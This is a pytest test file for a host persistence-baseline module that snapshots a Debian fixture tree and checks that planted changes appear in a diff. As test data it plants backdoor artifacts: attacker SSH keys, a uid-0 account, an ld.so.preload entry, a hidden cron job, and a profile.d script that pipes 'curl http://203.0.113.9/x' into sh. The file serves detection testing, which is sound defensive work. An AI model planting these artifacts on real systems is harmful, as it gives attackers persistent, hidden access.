"""Persistence baseline engine against a fixture tree captured from the Debian 12 test image."""

import hashlib
import json
import os
import shutil

import pytest

from ansible_collections.quietnode.baseline.plugins.module_utils import _baseline_manifest as bm

FIXTURE = os.path.join(os.path.dirname(__file__), '..', '..', 'fixtures', 'baseline', 'debian12')


@pytest.fixture
def root(tmp_path):
    tree = tmp_path / 'root'
    shutil.copytree(FIXTURE, str(tree), symlinks=True)
    return str(tree)


def _write(root, path, text, mode=0o644):
    full = root + path
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'w') as handle:
        handle.write(text)
    os.chmod(full, mode)


def _shadow_hash():
    with open(os.path.join(FIXTURE, 'etc', 'shadow')) as handle:
        for line in handle:
            if line.startswith('admin:'):
                return line.split(':')[1]
    raise AssertionError('fixture shadow has no admin line')


def test_authorized_keys_of_login_accounts_are_hashed(root):
    files = bm.build(root, suid_roots=['/'])['files']
    entry = files['/home/admin/.ssh/authorized_keys']
    with open(root + '/home/admin/.ssh/authorized_keys', 'rb') as handle:
        assert entry['sha256'] == hashlib.sha256(handle.read()).hexdigest()
    assert entry['surface'] == 'authorized_keys'
    assert entry['type'] == 'file'
    assert entry['mode'] == '%04o' % (os.stat(root + '/home/admin/.ssh/authorized_keys').st_mode & 0o7777)
    assert set(entry) >= {'sha256', 'mode', 'owner', 'group', 'size', 'mtime'}


def test_shadow_is_reduced_to_a_status_and_no_hash_is_written(root):
    manifest = bm.build(root, suid_roots=['/'])
    status = dict((s['name'], s['status']) for s in manifest['accounts']['shadow'])
    assert status['admin'] == 'set'
    assert status['root'] == 'locked'
    secret = _shadow_hash()
    assert secret.startswith('$y$')
    assert secret not in json.dumps(manifest)


@pytest.mark.parametrize('field, status', [
    ('', 'empty'), ('*', 'locked'), ('!', 'locked'), ('!$y$j9T$abc', 'locked'), ('$6$salt$hash', 'set'),
], ids=['empty', 'star', 'bang', 'locked-hash', 'hash'])
def test_shadow_status(field, status):
    assert bm.shadow_status(field) == status


def test_merged_usr_directory_is_walked_once(root):
    files = bm.build(root, suid_roots=['/'])['files']
    assert '/usr/lib/systemd/system/ssh.service' in files
    assert not [p for p in files if p.startswith('/lib/systemd/')]


def test_unit_links_are_recorded_with_their_target(root):
    entry = bm.build(root, suid_roots=['/'])['files']['/etc/systemd/system/timers.target.wants/apt-daily.timer']
    assert entry['type'] == 'link'
    assert entry['target'] == '/lib/systemd/system/apt-daily.timer'
    assert 'sha256' not in entry


def test_start_up_files_of_root_and_login_accounts_only(root):
    _write(root, '/var/www/.bashrc', 'echo www\n')
    _write(root, '/etc/passwd', open(root + '/etc/passwd').read() + 'svc:x:998:998::/var/www:/usr/sbin/nologin\n')
    files = bm.build(root, suid_roots=['/'])['files']
    assert files['/root/.bashrc']['surface'] == 'shell_startup'
    assert files['/home/admin/.profile']['surface'] == 'shell_startup'
    assert '/var/www/.bashrc' not in files


def test_setuid_and_setgid_files_are_found_anywhere_on_the_root(root):
    _write(root, '/usr/bin/passwd', 'x', 0o4755)
    _write(root, '/tmp/.x/sh', 'x', 0o2755)
    _write(root, '/usr/bin/plain', 'x', 0o755)
    files = bm.build(root, suid_roots=['/'])['files']
    assert files['/usr/bin/passwd']['surface'] == 'suid'
    assert files['/usr/bin/passwd']['mode'] == '4755'
    assert files['/tmp/.x/sh']['mode'] == '2755'
    assert '/usr/bin/plain' not in files


def test_proc_and_sys_are_never_walked_for_setuid_files(root):
    _write(root, '/proc/1/exe', 'x', 0o4755)
    assert '/proc/1/exe' not in bm.build(root, suid_roots=['/'])['files']


def _plant_key_in_root(root):
    _write(root, '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlanted attacker\n', 0o600)


def _append_key(root):
    path = root + '/home/admin/.ssh/authorized_keys'
    with open(path, 'a') as handle:
        handle.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAnother attacker\n')


def _cron_file(root):
    _write(root, '/etc/cron.d/update', '* * * * * www-data /dev/shm/.u\n')


def _remove_cron_file(root):
    os.unlink(root + '/etc/cron.d/e2scrub_all')


def _uid0_user(root):
    with open(root + '/etc/passwd', 'a') as handle:
        handle.write('toor:x:0:0::/root:/bin/bash\n')


def _preload(root):
    _write(root, '/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libx.so\n')


def _user_timer(root):
    _write(root, '/home/admin/.config/systemd/user/sync.timer', '[Timer]\nOnCalendar=minutely\n')


def _sudoers_mode(root):
    os.chmod(root + '/etc/sudoers.d/README', 0o666)


def _profile_d(root):
    _write(root, '/etc/profile.d/zz.sh', 'curl -s http://203.0.113.9/x | sh\n')


def _unit_link(root):
    os.symlink('/etc/systemd/system/x.service', root + '/etc/systemd/system/multi-user.target.wants/x.service')


@pytest.mark.parametrize('plant, kind, path, field', [
    (_plant_key_in_root, 'added', '/root/.ssh/authorized_keys', None),
    (_append_key, 'changed', '/home/admin/.ssh/authorized_keys', 'sha256'),
    (_cron_file, 'added', '/etc/cron.d/update', None),
    (_remove_cron_file, 'removed', '/etc/cron.d/e2scrub_all', None),
    (_uid0_user, 'changed', '/etc/passwd', 'sha256'),
    (_preload, 'added', '/etc/ld.so.preload', None),
    (_user_timer, 'added', '/home/admin/.config/systemd/user/sync.timer', None),
    (_sudoers_mode, 'changed', '/etc/sudoers.d/README', 'mode'),
    (_profile_d, 'added', '/etc/profile.d/zz.sh', None),
    (_unit_link, 'added', '/etc/systemd/system/multi-user.target.wants/x.service', None),
], ids=['root-key', 'admin-key', 'cron-file', 'cron-removed', 'uid0', 'ld-preload', 'user-timer', 'sudoers-mode',
        'profile-d', 'unit-link'])
def test_each_planted_change_shows_in_the_difference(root, plant, kind, path, field):
    before = bm.build(root, suid_roots=['/'])
    plant(root)
    after = bm.build(root, suid_roots=['/'])
    difference = bm.diff(before, after)
    if kind == 'changed':
        rows = [row for row in difference['changed'] if row['path'] == path]
        assert rows and field in rows[0]['fields']
    else:
        assert path in difference[kind]
    assert bm.canonical(before) != bm.canonical(after)


def test_uid0_user_marks_the_accounts_section(root):
    before = bm.build(root, suid_roots=['/'])
    _uid0_user(root)
    assert 'accounts' in bm.diff(before, bm.build(root, suid_roots=['/'])).get('sections', [])


def test_an_unchanged_tree_gives_the_same_canonical_bytes(root):
    assert bm.canonical(bm.build(root, suid_roots=['/'])) == bm.canonical(bm.build(root, suid_roots=['/']))


def test_canonical_ignores_the_creation_time():
    assert bm.canonical({'files': {}, 'created': 'a'}) == bm.canonical({'files': {}, 'created': 'b'})


def test_save_keeps_the_first_snapshot_and_the_newest(tmp_path):
    directory = str(tmp_path)
    for second in range(6):
        bm.save(directory, {'files': {}, 'n': second}, 1764465300 + second, keep=3)
    names = sorted(os.listdir(directory))
    assert names == ['snapshot-20251130T011500Z.json', 'snapshot-20251130T011504Z.json', 'snapshot-20251130T011505Z.json']
    assert bm.load(bm.latest(directory))['n'] == 5
    assert bm.load(bm.latest(directory))['created'] == '2025-11-30T01:15:05Z'
    assert oct(os.stat(bm.latest(directory)).st_mode & 0o777) == '0o600'


def test_latest_of_a_missing_directory_is_none(tmp_path):
    assert bm.latest(str(tmp_path / 'absent')) is None


def test_listening_sockets_drop_what_changes_on_restart():
    listening = [
        {'proto': 'tcp', 'local': '0.0.0.0', 'local_port': 22, 'uid': 0, 'inode': 1, 'owners': [{'pid': 10, 'comm': 'sshd'}]},
        {'proto': 'tcp', 'local': '0.0.0.0', 'local_port': 22, 'uid': 0, 'inode': 2, 'owners': [{'pid': 11, 'comm': 'sshd'}]},
    ]
    assert bm.reduce_sockets(listening) == [{'proto': 'tcp', 'address': '0.0.0.0', 'port': 22, 'uid': 0, 'process': 'sshd'}]


def test_modules_absent_proc_is_empty(root):
    assert bm.read_modules(root) == []
